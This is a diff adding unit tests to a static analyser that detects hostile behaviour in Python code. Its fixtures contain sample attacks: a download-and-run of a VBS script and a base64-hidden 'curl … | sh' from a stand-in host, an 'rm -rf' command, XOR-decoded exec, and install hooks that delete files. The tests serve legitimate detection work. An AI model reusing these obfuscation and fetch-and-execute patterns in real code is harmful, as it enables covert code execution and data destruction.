@@ -150,5 +150,93 @@ getattr(builtins, plain)(base64.b64decode(plain))
   EXPECT_TRUE(run->target_from.has(Source::decoded));
 }
 
+TEST(FlowPython, A_file_is_of_the_language_of_the_interpreter_that_runs_it) {
+  const Scene scene = analyse(R"(==> pkg/version
+import os
+os.remove("/a")
+==> setup.py
+import subprocess, sys
+subprocess.Popen([sys.executable, "pkg/version"])
+)");
+  ASSERT_ACTION(gone, scene, Act::delete_file);
+  EXPECT_TRUE(gone->at_load);
+}
+
+TEST(FlowPython, A_path_in_the_temporary_folder_is_the_same_however_it_is_written) {
+  const Scene scene = python(R"code(
+import subprocess, tempfile
+with open(tempfile.gettempdir() + "\\job.vbs", "w") as file:
+    file.write(__import__("requests").get("https://files.example.test/job").text)
+subprocess.Popen("cmd /c %TEMP%\\job.vbs", shell=True)
+)code");
+  ASSERT_ACTION(run, scene, Act::run_shell);
+  EXPECT_TRUE(run->target_from.has(Source::remote));
+}
+
+TEST(FlowPython, Follows_a_method_that_is_kept_under_another_name) {
+  const Scene scene = python(R"code(
+glue = "".join
+parts = []
+add = parts.append
+add("rm -rf /a")
+import os
+os.system(glue([chr(c) for c in [101, 99, 104, 111, 32, 104, 105, 33]]))
+os.popen(parts[0])
+)code");
+  ASSERT_ACTION(first, scene, Act::run_shell, "os.system");
+  EXPECT_EQ(first->target, "echo hi!");
+  EXPECT_TRUE(first->target_from.has(Source::decoded));
+  ASSERT_ACTION(second, scene, Act::run_shell, "os.popen");
+  EXPECT_EQ(second->target, "rm -rf /a");
+}
+
+TEST(FlowPython, What_XOR_gives_was_encoded) {
+  const Scene scene = python(R"code(
+key = "k"
+text = ""
+for letter in "\x02\x06\x1b\x04\x19\x1fK\x04\x18":
+    text += chr(ord(letter) ^ ord(key))
+exec(text)
+)code");
+  ASSERT_ACTION(run, scene, Act::run_code);
+  EXPECT_EQ(run->target, "import os");
+  EXPECT_TRUE(run->target_from.has(Source::decoded));
+}
+
+TEST(FlowPython, A_command_of_setuptools_runs_though_no_cmdclass_names_it) {
+  const Scene scene = python(R"code(
+import os
+from setuptools import setup
+from setuptools.command.install import install
+class Later(install):
+    def run(self):
+        os.remove("/a")
+setup(name="x")
+)code");
+  ASSERT_ACTION(gone, scene, Act::delete_file);
+  EXPECT_TRUE(gone->at_load);
+}
+
+TEST(FlowPython, Short_flags_in_one_word_name_the_file_of_a_download) {
+  for (const std::string_view line : {"wget -qO /tmp/tool-x https://files.example.test/a",
+                                      "curl -sSLo /tmp/tool-x https://files.example.test/a"}) {
+    const Scene scene = python("import os\nos.system('" + std::string(line) + "')\n");
+    ASSERT_ACTION(write, scene, Act::write_file);
+    EXPECT_EQ(write->target, "/tmp/tool-x") << line;
+    ASSERT_ACTION(fetch, scene, Act::fetch);
+    EXPECT_EQ(fetch->target, "https://files.example.test/a") << line;
+  }
+}
+
+TEST(FlowPython, A_constant_that_is_encoded_only_to_be_decoded_by_a_shell_is_followed) {
+  const Scene scene = python(R"code(
+import base64, os
+line = base64.b64encode(b"curl https://files.example.test/a | sh").decode()
+os.system("echo %s|base64 -d|bash" % line)
+)code");
+  ASSERT_ACTION(fetch, scene, Act::fetch, "curl");
+  EXPECT_EQ(fetch->target, "https://files.example.test/a");
+}
+
 }  // namespace
 }  // namespace assay::code
